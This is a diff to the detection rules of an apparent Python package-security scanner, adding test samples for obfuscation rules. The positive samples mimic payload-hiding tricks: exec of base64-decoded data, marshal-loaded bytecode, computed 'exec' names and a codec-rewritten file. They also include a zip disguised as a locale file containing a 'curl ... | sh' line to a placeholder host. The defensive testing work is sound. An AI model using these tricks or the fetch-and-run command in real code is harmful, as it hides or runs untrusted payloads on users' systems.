@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import base64
+import marshal
+
 from pipwarden.findings import Severity
 from pipwarden.rules import Where
-from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, rule
+from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, negative, positive, rule
+from pipwarden.scan.rules._samples import B64, INERT, NOISY, zip_of
 
 RULES = [
     rule(
@@ -15,6 +19,10 @@ RULES = [
         "Data decoded from a literal (base64, hex, zlib, rot13, chr chains, reversed strings, "
         "marshal) reaches exec/eval/compile or a process: a hidden payload.",
         "Do not install; decode the payload offline to see what it does.",
+        samples=(
+            positive(f"import base64\nexec(base64.b64decode({B64!r}))\n"),
+            negative("exec(compile(open('version.py').read(), 'version.py', 'exec'))\n"),
+        ),
     ),
     rule(
         "obfuscation.marshal-literal",
@@ -23,6 +31,14 @@ RULES = [
         "Bytecode or pickle loaded from a literal",
         "marshal/pickle loads of a literal embed compiled code that no reader can review.",
         "Ask the maintainers for the source; do not install meanwhile.",
+        samples=(
+            positive(
+                lambda: (
+                    f"import marshal\nc = marshal.loads({marshal.dumps(compile(INERT, 'x', 'exec'))!r})\n"
+                )
+            ),
+            negative("import marshal\ndef load(f):\n    return marshal.loads(f.read())\n"),
+        ),
     ),
     rule(
         "obfuscation.hidden-name",
@@ -32,6 +48,10 @@ RULES = [
         "A sensitive function or module (exec, eval, os, subprocess, ...) is named through a "
         "computed string (concatenation, chr, decoding) in getattr/__import__.",
         "Review the code; normal code names these directly.",
+        samples=(
+            positive("f = getattr(__builtins__, 'ex' + 'ec')\n"),
+            negative("f = getattr(obj, 'name')\n"),
+        ),
     ),
     rule(
         "obfuscation.builtin-alias",
@@ -42,6 +62,10 @@ RULES = [
         "builtins in one tuple assignment (`a, b, c = exec, str, globals`): obfuscators do this "
         "so the call that runs the payload names none of them.",
         "Review the code; normal code calls these builtins by their names.",
+        samples=(
+            positive("from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\n"),
+            negative("x, y, z = str, int, float\nrun = exec\n"),
+        ),
     ),
     rule(
         "obfuscation.encoded-blob",
@@ -50,6 +74,10 @@ RULES = [
         "Long encoded blob",
         "A long base64 or hex literal; may be data, may be a payload.",
         "Check what decodes and uses the blob.",
+        samples=(
+            positive(f"BLOB = {base64.b64encode(bytes(range(256)) * 2).decode()!r}\n"),
+            negative(f"NAME = {'abcdefgh_' * 40!r}\n"),
+        ),
     ),
     rule(
         "obfuscation.high-entropy",
@@ -58,6 +86,10 @@ RULES = [
         "High-entropy literal",
         "A long literal with near-random characters (encrypted or compressed data).",
         "Check what uses the literal.",
+        samples=(
+            positive("K = '" + "".join(NOISY[(i * 37) % len(NOISY)] for i in range(300)) + "'\n"),
+            negative("K = '" + "ab" * 200 + "'\n"),
+        ),
     ),
     rule(
         "obfuscation.bytecode-only",
@@ -67,6 +99,20 @@ RULES = [
         "A .pyc module ships outside __pycache__, or code loads bytecode with "
         "SourcelessFileLoader on import: the code cannot be reviewed (fshec2-style loaders).",
         "Ask for the source; do not install code nobody can read.",
+        samples=(
+            positive(
+                "import importlib.machinery, os\n"
+                "_l = importlib.machinery.SourcelessFileLoader('p.x', os.path.join("
+                "os.path.dirname(__file__), 'x.pyc'))\n",
+                "pkg/__init__.py",
+            ),
+            negative(
+                "import importlib.machinery\n"
+                "def load(name, path):\n"
+                "    return importlib.machinery.SourcelessFileLoader(name, path)\n",
+                "pkg/__init__.py",
+            ),
+        ),
     ),
     rule(
         "obfuscation.hidden-archive",
@@ -76,6 +122,19 @@ RULES = [
         "A data file (.dat, .png, ...) is really a zip holding Python modules, imported through "
         "zipimport or sys.path: the code escapes review. Its strong findings are reported too.",
         "Unpack and review the hidden modules; do not install meanwhile.",
+        samples=(
+            positive(
+                lambda: zip_of(
+                    {
+                        "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
+                    }
+                ),
+                "pkg/locale.dat",
+            ),
+            negative(
+                lambda: zip_of({"fr/messages.json": '{"hello": "bonjour"}'}), "pkg/locale.dat"
+            ),
+        ),
     ),
     rule(
         "obfuscation.custom-codec",
@@ -86,6 +145,10 @@ RULES = [
         "a codec registered at start-up (by a .pth) rewrites it as it is read, so what runs is "
         "not what a reviewer sees.",
         "Do not install; decode the file with the package's codec and review the result.",
+        samples=(
+            positive("# -*- coding: utf8_compat -*-\nvzcbeg bf\n"),
+            negative("# -*- coding: latin-1 -*-\nimport os\n"),
+        ),
     ),
 ]
 
